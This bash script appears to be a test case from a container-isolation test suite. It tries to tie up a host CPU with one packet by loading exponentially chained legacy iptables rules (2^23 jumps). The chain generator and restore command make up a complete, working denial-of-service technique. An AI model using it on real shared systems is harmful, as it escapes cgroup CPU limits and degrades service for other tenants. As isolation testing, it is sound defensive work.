# shellcheck shell=bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# D11: keeps a processor of the host busy with one packet
# mechanism: chains that each jump twice to the next: a packet passes 2^N rules, in one go and in no cgroup. The kernel's legacy tables take
# any number of chains; those of nf_tables are walked through when they are loaded, so that who makes such ones pays first
# stopped by: the kernel has no legacy tables when the package chooses the modules, and a tenant can load none
# weakened: with iptable_filter
# needs: kernel modules docker

depth=23 # 2^23 rules, some seconds

chains() {
        local i
        echo '*filter'
        for ((i = 0; i <= depth; i++)); do echo ":N$i - [0:0]"; done
        for ((i = 0; i < depth; i++)); do
                echo "-A N$i -j N$((i + 1))"
                echo "-A N$i -j N$((i + 1))"
        done
        echo '-A OUTPUT -p udp --dport 9 -j N0'
        echo COMMIT
}

packet() { in_place bash -c 'b=$EPOCHREALTIME; echo x >/dev/udp/127.0.0.1/9; e=$EPOCHREALTIME; echo $(((${e/./} - ${b/./}) / 1000))'; } # ms

attack() {
        local before said ms
        before=$(packet) || broken "no packet"
        said=$(in_place bash -c "iptables-legacy-restore 2>&1 <<<'$(chains)'") || {
                [[ $said == *"initialize table"* ]] || broken "$said"
                stopped "${said%%$'\n'*}"
        }
        ms=$(packet) || broken "no packet"
        ((ms > 10 * (before + 10))) || broken "a packet takes $ms ms, $before without"
        breached "one packet takes $ms ms, $before without"
}

weaken() { modprobe iptable_filter && place=$attacker; }

# Not what the module needs, which was there before.
unweaken() {
        [[ -d /sys/module/iptable_filter ]] || return 0
        in_place_sh 'iptables-legacy -F; iptables-legacy -X'
        wait_for 20 rmmod iptable_filter
}
